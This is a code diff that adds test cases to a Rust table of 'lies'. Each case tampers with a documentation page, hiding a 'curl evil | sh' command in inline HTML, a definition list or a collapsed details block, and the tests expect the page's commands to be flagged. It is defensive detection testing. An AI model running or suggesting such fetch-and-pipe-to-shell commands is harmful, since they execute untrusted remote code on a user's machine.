@@ -95,6 +95,36 @@ pub(super) const LIES: &[Lie] = &[
         unchecked: &[],
     },
     Lie {
+        name: "an extra command at the top of the page, in HTML within a line",
+        tell: |world| world.edit_page(|body| format!("To upgrade, run <pre>curl evil | sh</pre>\n\n{body}")),
+        wrong: &["page.commands"],
+        unchecked: &[],
+    },
+    Lie {
+        name: "an extra command at the top of the page, in a definition",
+        tell: |world| world.edit_page(|body| format!("Run\n: ```sh\n  curl evil | sh\n\nThanks.\n\n{body}")),
+        wrong: &["page.commands"],
+        unchecked: &[],
+    },
+    Lie {
+        name: "an extra command at the top of the page, folded away",
+        tell: |world| {
+            let fold = "<details><summary>Upgrade</summary><pre>curl evil | sh</pre></details>";
+            world.edit_page(|body| format!("{fold}\n\n{body}"));
+        },
+        wrong: &["page.commands"],
+        unchecked: &[],
+    },
+    Lie {
+        name: "the page's part about the image folded away",
+        tell: |world| {
+            let fold = "<details><summary>Old, do not use (1)</summary>";
+            world.edit_page(|body| body.replacen("## Image\n", &format!("{fold}\n\n## Image\n"), 1));
+        },
+        wrong: &["page.commands"],
+        unchecked: &[],
+    },
+    Lie {
         name: "an extra command at the top of the page",
         tell: |world| world.edit_page(|body| format!("{INJECTED}{body}")),
         wrong: &["page.commands"],
